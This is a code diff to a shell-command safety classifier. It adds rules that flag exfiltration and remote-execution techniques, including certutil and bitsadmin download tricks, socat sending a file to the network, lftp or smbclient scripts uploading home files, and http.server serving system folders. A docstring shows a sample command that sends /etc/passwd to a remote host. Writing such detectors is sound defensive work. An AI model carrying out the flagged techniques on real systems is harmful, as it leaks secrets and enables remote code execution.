@@ -6,10 +6,12 @@ from __future__ import annotations
 
 import re
 
+from aintern_ls.safety import system
 from aintern_ls.safety.context import (
     STDIN_FILE,
     STDIN_NONE,
     STDIN_OTHER,
+    STDIN_STATIC,
     Cmd,
 )
 from aintern_ls.safety.levels import C, D, M
@@ -52,13 +54,17 @@ def _fetch(cmd: Cmd) -> None:
         )
         return
     if n == "certutil" and not any(
-        w.text.lower().startswith(("-urlcache", "/urlcache")) for w in cmd.args
+        w.text.lower().startswith(("-urlcache", "/urlcache", "-verifyctl", "/verifyctl"))
+        for w in cmd.args
     ):
         cmd.add(M, "unknown-command", "certutil changes certificates or decodes files")
         return
     cmd.info.network_fetch = True
+    if n == "bitsadmin" and re.search(r"/setnotifycmdline", " ".join(cmd.texts()), re.I):
+        cmd.add(C, "lolbin-exec", "bitsadmin runs a program when a download job finishes")
+        return
     if n in ("certutil", "bitsadmin") and re.search(
-        r"(urlcache|/transfer|/addfile|/download)", " ".join(cmd.texts()), re.I
+        r"(urlcache|verifyctl|/transfer|/addfile|/download)", " ".join(cmd.texts()), re.I
     ):
         cmd.add(
             C,
@@ -90,10 +96,12 @@ def _fetch(cmd: Cmd) -> None:
             continue
         uploads.append((val.split("=", 1)[-1] if not val.startswith("@") else val, word.dynamic))
     sent_files = [v.lstrip("@<") for v, _ in uploads if v.startswith(("@", "<"))]
+    output = cmd.option_value("-o", "--output", "-O", "--output-document", "-OutFile")
     if any(
-        (w.dynamic and w.origin not in ("", "variable") and "://" in w.text) or "$(" in w.text
+        (w.dynamic and w.origin not in ("", "variable") and "://" in w.text)
+        or ("$(" in w.text and (not w.text.startswith("-") or "=" in w.text))
         for w in cmd.args
-        if not w.text.startswith("-")
+        if w is not output
     ):
         cmd.add(C, "exfiltration", f"{n} puts a command's output in the address it calls")
         return
@@ -152,6 +160,9 @@ def _netcat(cmd: Cmd) -> None:
         else:
             cmd.add(M, "write", "openssl writes keys or files")
         return
+    if cmd.name == "socat" and _socat_sends_file(cmd):
+        cmd.add(C, "exfiltration", "socat sends a file to the network")
+        return
     if cmd.has("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or re.search(
         r"\b(exec|system):", text, re.I
     ):
@@ -167,13 +178,28 @@ def _netcat(cmd: Cmd) -> None:
     cmd.add(M, "network", f"{cmd.name} opens a network connection")
 
 
+_SOCAT_FILE = re.compile(r"\A(?:file|open|gopen):", re.I)
+_SOCAT_NET = re.compile(r"\A(?:tcp|tcp4|tcp6|udp|udp4|udp6|ssl|openssl|sctp)[\w-]*:", re.I)
+
+
+def _socat_sends_file(cmd: Cmd) -> bool:
+    """`socat -u FILE:/etc/passwd TCP:host:80`: a file address feeding a network address."""
+    addrs = [w.text for w in cmd.args if not w.text.startswith("-") or w.text == "-"]
+    if len(addrs) < 2:
+        return False
+    first, second = addrs[0], addrs[1]
+    if cmd.has("-U"):
+        first, second = second, first
+    return bool(_SOCAT_FILE.match(first) and _SOCAT_NET.match(second))
+
+
 def _remote(text: str) -> bool:
     return bool(re.match(r"^([\w.-]+@)?[\w.-]+:(?!//)|^\w+://", text)) and not re.match(
         r"^[a-zA-Z]:[\\/]", text
     )
 
 
-def _sensitive_source(text: str) -> bool:
+def sensitive_source(text: str) -> bool:
     """A home directory, a dotfile in it, or a system directory: what an attacker wants."""
     return bool(
         is_secret(text)
@@ -185,6 +211,13 @@ def _sensitive_source(text: str) -> bool:
 
 @handles("scp", "sftp", "rclone", "ftp", "lftp", "smbclient", "croc", "magic-wormhole", "wormhole")
 def _copy_remote(cmd: Cmd) -> None:
+    system.repl_tool(cmd)  # lftp -c '!cmd', smbclient -c '!cmd'
+    if cmd.stdin.kind == STDIN_STATIC and any(
+        sensitive_source(m.group(1)) or is_secret(m.group(1))
+        for m in re.finditer(r"(?:^|[\n;])\s*m?put\s+(?:-\w+\s+)*(\S+)", cmd.stdin.text)
+    ):
+        cmd.add(C, "exfiltration", f"{cmd.name} uploads home or system files (its script)")
+        return
     ops = cmd.operands(frozenset({"-P", "-i", "-o", "-F", "-J", "-c", "-l", "-S"}))
     if (any(is_secret(w.text) for w in ops) and len(ops) >= 2) or (
         cmd.name in ("croc", "wormhole", "magic-wormhole") and any(is_secret(w.text) for w in ops)
@@ -195,7 +228,7 @@ def _copy_remote(cmd: Cmd) -> None:
         cmd.name == "scp"
         and len(ops) >= 2
         and _remote(ops[-1].text)
-        and any(_sensitive_source(w.text) for w in ops[:-1])
+        and any(sensitive_source(w.text) for w in ops[:-1])
     ):
         cmd.add(C, "exfiltration", "copies home or system files to another machine")
         return
@@ -256,3 +289,16 @@ def _ssh(cmd: Cmd) -> None:
             cmd.scope.include(cmd.scope.nested(rest[0].text, "bash", rest[0]))
         else:
             cmd.judge(list(rest), cmd.stdin)
+
+
+@handles("http.server", "SimpleHTTPServer")
+def _http_server(cmd: Cmd) -> None:
+    """`python3 -m http.server` serves a folder to the network; serving the root, a home or a
+    system folder publishes its files."""
+    folder = cmd.option_value("-d", "--directory")
+    if (folder is not None and sensitive_source(folder.text.rstrip("/") or "/")) or (
+        folder is not None and folder.text.rstrip("/") in ("", "/")
+    ):
+        cmd.add(C, "exfiltration", f"serves {folder.text} to the network", folder)
+        return
+    cmd.add(M, "network", "serves the current folder over HTTP")
